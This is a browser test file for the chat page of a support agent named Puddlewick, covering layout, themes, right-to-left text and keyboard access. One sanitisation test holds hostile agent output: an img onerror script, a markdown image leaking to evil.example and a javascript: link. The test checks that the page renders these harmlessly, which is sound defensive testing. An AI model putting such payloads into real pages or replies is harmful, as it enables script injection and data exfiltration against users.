import { describe, expect, test } from "vitest"
import { houseOfFile } from "./House.ts"
import { violations, width } from "./Pages.ts"

const house = houseOfFile()

const narrow = { width: 360, height: 740 }

describe("the page of the support agent", () => {
  test.each(["light", "dark"] as const)(
    "answers with a tool and a source that opens at its passage, %s",
    async (scheme) => {
      const { url } = await house().serve()
      const alice = await house().tab(url)
      const { page } = alice
      await page.emulateMedia({ colorScheme: scheme })
      await page.getByRole("heading", { name: "Ask Puddlewick" }).waitFor()
      await page.getByText("Preferences: (to be learned)").waitFor()
      await house().shoot(alice, `wide-${scheme}-empty`)
      expect.soft(await violations(page)).toEqual([])

      await alice.answered("Where is my order PW-104233?")
      expect.soft(await page.getByRole("button", { name: "order_status done" }).count()).toBe(1)
      await alice.answered("I prefer short answers")
      expect
        .soft(await alice.answered("When is my money back after a return?"))
        .toContain("5 working days")
      const source = page.getByRole("button", { name: /^Source 1: / })
      await house().shoot(alice, `wide-${scheme}`)
      await source.click()
      await page.getByRole("button", { name: "Open the page" }).waitFor()
      await house().shoot(alice, `wide-${scheme}-source`)
      expect.soft(await violations(page)).toEqual([])
      await page.getByRole("button", { name: "Open the page" }).click()
      const cited = page.getByRole("region", { name: "The cited passage" })
      await cited.waitFor()
      expect.soft(await cited.textContent()).toContain("5 working days")
      expect
        .soft(await cited.evaluate((one) => one.getBoundingClientRect().top < innerHeight))
        .toBe(true)
      await house().shoot(alice, `wide-${scheme}-document`)
      expect.soft(await violations(page)).toEqual([])
      expect.soft(alice.complaints).toEqual([])
    },
    60_000
  )

  test.each(["light", "dark"] as const)(
    "fits a phone of 360 px, %s",
    async (scheme) => {
      const { url } = await house().serve()
      const entering = await house().tab(url, undefined, narrow)
      await entering.page.emulateMedia({ colorScheme: scheme })
      await entering.page.getByRole("heading", { name: "Puddlewick support" }).waitFor()
      await house().shoot(entering, `narrow-${scheme}-entrance`)
      expect.soft(await violations(entering.page)).toEqual([])
      const alice = await house().tab(url, "Alice", narrow)
      const { page } = alice
      await page.emulateMedia({ colorScheme: scheme })
      await alice.answered("Where is my order PW-104233?")
      await alice.answered("When is my money back after a return?")
      await house().shoot(alice, `narrow-${scheme}`)
      expect.soft(await width(page)).toBe(360)
      expect.soft(await violations(page)).toEqual([])
      await page.getByRole("button", { name: "Memory" }).click()
      await page.getByText("Preferences: (to be learned)").waitFor()
      expect.soft(await violations(page)).toEqual([])
      await house().shoot(alice, `narrow-${scheme}-memory`)
      expect.soft(await width(page)).toBe(360)
      await page.keyboard.press("Escape")
      await page.getByRole("button", { name: "Memory" }).waitFor()
      await page.getByRole("button", { name: /^Source 1: / }).click()
      await page.getByRole("button", { name: "Open the page" }).click()
      await page.getByRole("region", { name: "The cited passage" }).waitFor()
      await house().shoot(alice, `narrow-${scheme}-document`)
      expect.soft(await width(page)).toBe(360)
      expect.soft(alice.complaints).toEqual([])
    },
    60_000
  )

  test("shows what an agent writes as text: no HTML, no foreign images, no scripts in links", async () => {
    const { env, model } = await house().model()
    model.plan({
      _tag: "Says",
      text: `<img src=x onerror="document.title='owned'"> <b>raw</b> ![leak](https://evil.example/?q=1)
[click](javascript:alert(1)) [shop](https://shop.example/) [1] and [7]

| a | b |
| - | - |
| 1 | 2 |`
    })
    const { url } = await house().serve(env)
    const alice = await house().tab(url)
    const { page } = alice
    const foreign: Array<string> = []
    page.on("request", (request) => request.url().startsWith(url) || foreign.push(request.url()))
    await alice.answered("Hello there")
    expect.soft(await page.locator(".reply img, .reply b, .reply script").count()).toBe(0)
    expect.soft(await page.locator(".reply a").count()).toBe(1)
    expect.soft(await page.locator(".reply a").getAttribute("rel")).toBe("noreferrer noopener")
    expect.soft(await page.locator(".reply").textContent()).toContain("[1] and [7]")
    expect.soft(await page.locator(".reply table").count()).toBe(1)
    expect.soft(await page.title()).toBe("Puddlewick support")
    expect.soft(foreign).toEqual([])
    expect.soft(alice.complaints).toEqual([])
  }, 60_000)

  test("fits tables, lists of tasks and long words into 360 px, with the words of a table whole", async () => {
    const { env, model } = await house().model()
    model.plan({
      _tag: "Says",
      text: `| Item | Availability | Warehouse | Price | Note |
| - | - | - | -: | - |
| Wellington boots | available | Ropewalk | 1129.00 | with wool socks |

- [x] paid
- [ ] delivered

See \`${"on_and_".repeat(30)}\` and https://parcels.example/${"0".repeat(90)}

> Keep the box.`
    })
    const { url } = await house().serve(env)
    const alice = await house().tab(url, "Alice", narrow)
    const { page } = alice
    await alice.answered("Hello there")
    await house().shoot(alice, "narrow-light-markdown")
    expect.soft(await width(page)).toBe(360)
    const height = (found: string) =>
      page.locator(found).evaluate((one) => one.getBoundingClientRect().height)
    // One line each.
    expect.soft(await height("th:nth-child(2)")).toBeLessThan(40)
    expect.soft(await height(".reply li:first-child")).toBeLessThan(40)
    expect.soft(await page.getByRole("checkbox", { name: "Done" }).isChecked()).toBe(true)
    expect.soft(await violations(page)).toEqual([])
    expect.soft(alice.complaints).toEqual([])
  }, 60_000)

  test.each([360, 520, 768])(
    "fits a very long name into %i px",
    async (across) => {
      const { url } = await house().serve()
      const name = `Maximiliana ${"von und zu ".repeat(4)}Hohenau`
      const somebody = await house().tab(url, name, { width: across, height: 740 })
      const { page } = somebody
      await page.getByRole("button", { name: /^User: Maximiliana/ }).waitFor()
      await house().shoot(somebody, `name-${across}`)
      expect.soft(await width(page)).toBe(across)
      const boxes = await page.locator("header > *").evaluateAll((parts) =>
        parts.map((part) => {
          const { left, right } = part.getBoundingClientRect()
          return { left, right, wide: part.scrollWidth - part.clientWidth }
        })
      )
      expect.soft(boxes.map(({ wide }) => wide)).toEqual(boxes.map(() => 0))
      expect.soft(boxes.slice(1).every(({ left }, n) => left >= (boxes[n]?.right ?? 0))).toBe(true)
    },
    60_000
  )

  test("sets what is read from the right on the right, paragraph by paragraph", async () => {
    const { env, model } = await house().model()
    model.plan({ _tag: "Says", text: "ההזמנה בדרך.\n\n- פנס\n- מגפיים\n\nIn English." })
    const { url } = await house().serve(env)
    const alice = await house().tab(url)
    const { page } = alice
    await alice.answered("איפה ההזמנה שלי?")
    await house().shoot(alice, "wide-light-from-the-right")
    const column = await page.locator(".reply").boundingBox()
    /** How far words stand from the left and from the right of the column. */
    const gaps = (found: string) =>
      page.locator(found).evaluate((one, box) => {
        const range = document.createRange()
        range.selectNodeContents(one)
        const { left, right } = range.getBoundingClientRect()
        return [left - (box?.x ?? 0), (box?.x ?? 0) + (box?.width ?? 0) - right].map(Math.round)
      }, column)
    const [far, near] = await gaps(".reply p:first-child")
    expect.soft(near).toBe(0)
    expect.soft(far).toBeGreaterThan(100)
    expect.soft((await gaps(".reply li:first-child"))[1]).toBe(24)
    expect.soft((await gaps(".reply p:last-child"))[0]).toBe(0)
    await page.getByRole("textbox", { name: "Message" }).fill("שלום")
    expect
      .soft(await page.locator("#message").evaluate((one) => one.matches(":dir(rtl)")))
      .toBe(true)
    expect.soft(alice.complaints).toEqual([])
  }, 60_000)

  test("is usable by keyboard alone", async () => {
    const { url } = await house().serve()
    const alice = await house().tab(url)
    const { page } = alice
    await page.getByText("User ID: alice").waitFor()
    await page.evaluate(() => {
      if (document.activeElement instanceof HTMLElement) document.activeElement.blur()
    })
    const order: Array<string> = []
    for (let n = 0; n < 9; n++) {
      await page.keyboard.press("Tab")
      order.push(
        await page.evaluate(() => {
          const one = document.activeElement
          return (
            one?.getAttribute("aria-label") ??
            (one?.id === "message" ? "Message" : (one?.textContent ?? ""))
          )
        })
      )
    }
    expect(order).toEqual([
      "Dark mode",
      "User: Alice",
      "Conversation",
      "Where is my order PW-104233?",
      "When is my money back after a return?",
      "Message",
      "Send",
      "Edit human",
      "History of human"
    ])
    await page.keyboard.press("Enter")
    await page.getByRole("dialog").waitFor()
    await page.keyboard.press("Escape")
    await page.getByRole("dialog").waitFor({ state: "detached" })
    const focused = () =>
      page.evaluate(() => document.activeElement?.getAttribute("aria-label") ?? "")
    expect(await focused()).toBe("History of human")
    // Editing takes the focus and gives it back.
    await page.keyboard.press("Shift+Tab")
    await page.keyboard.press("Enter")
    await expect.poll(focused).toBe("Text of human")
    await page.keyboard.press("Tab")
    await page.keyboard.press("Enter")
    await expect.poll(focused).toBe("Edit human")
    await page.keyboard.press("Enter")
    await page.keyboard.type("Name: Ann\n")
    await page.getByRole("button", { name: "Save", exact: true }).press("Enter")
    await expect.poll(focused).toBe("Edit human")
    await page.getByRole("button", { name: "Where is my order PW-104233?" }).focus()
    await page.keyboard.press("Enter")
    expect(await page.evaluate(() => document.activeElement?.id)).toBe("message")
    await page.keyboard.press("Shift+Enter")
    await page.keyboard.press("Enter")
    await page.getByRole("button", { name: "order_status done" }).waitFor()
    expect(alice.complaints).toEqual([])
  }, 60_000)
})
